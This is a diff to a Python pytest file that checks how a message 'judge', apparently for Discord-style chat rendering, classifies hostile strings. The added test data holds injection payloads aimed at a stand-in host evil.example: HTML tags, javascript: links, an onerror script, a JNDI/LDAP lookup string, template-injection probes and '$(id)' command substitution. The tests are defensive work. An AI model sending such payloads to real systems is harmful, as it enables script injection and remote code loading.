@@ -1,7 +1,7 @@
 import pytest
 
 from tests.fakes.discord_judge import live, read
-from tests.fakes.replies import HOSTILE
+from tests.hostile.strings import HOSTILE
 from tests.unit.discord.hostile import DISCORD_HOSTILE
 
 ALIVE = {
@@ -46,12 +46,36 @@ ALIVE = {
     "line one\n1. item": "item",
     "{{7*7}} ${7*7}": "slanted",
     '=HYPERLINK("https://evil.example")': "address",
+    "hello@everyone": "mention",
+    "<!date^1392734382^{date_num} {time_secs}^https://evil.example/|soon>": "address",
+    "@silent hush": "silence",
+    "[x](javascript:alert(1))": "link that is not drawn",
+    "![y](https://evil.example/y.png)": "link",
+    "[x]: https://evil.example": "address",
+    "https://harbour-post.example@evil.example/": "address",
+    "https://evil.example/<&\"'>": "address",
+    "steam://run/1": "address",
+    "<iframe src=https://evil.example></iframe>": "address",
+    "<img src=https://evil.example/x.png>": "address",
+    "<link rel=stylesheet href=https://evil.example/x.css>": "address",
+    "<meta http-equiv=refresh content=0;url=https://evil.example>": "address",
+    "<base href=https://evil.example/>": "address",
+    "<form action=https://evil.example><input name=q></form>": "address",
+    "<style>@import url(https://evil.example)</style>": "address",
+    "<object data=https://evil.example></object>": "address",
+    "` onerror=alert(1) `": "code",
+    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\": "address",
+    "[red]markup[/red] [link=https://evil.example]x[/link]": "address",
+    "{0} {name} {0.__class__} {": "underlined",
+    "${jndi:ldap://evil.example/x}": "emoji",
+    "#{7*7} <%= 7*7 %> $(id) `id`": "code + slanted",
+    "\u05e9\u05dc\u05d5\u05dd @everyone": "mention",
 }
 
 
 @pytest.mark.parametrize("words", HOSTILE)
 def test_the_judge_finds_what_is_alive_and_only_that(words: str) -> None:
-    assert set(read(words).kinds) == ({ALIVE[words]} if words in ALIVE else set())
+    assert set(read(words).kinds) == (set(ALIVE[words].split(" + ")) if words in ALIVE else set())
 
 
 @pytest.mark.parametrize("words", DISCORD_HOSTILE, ids=repr)
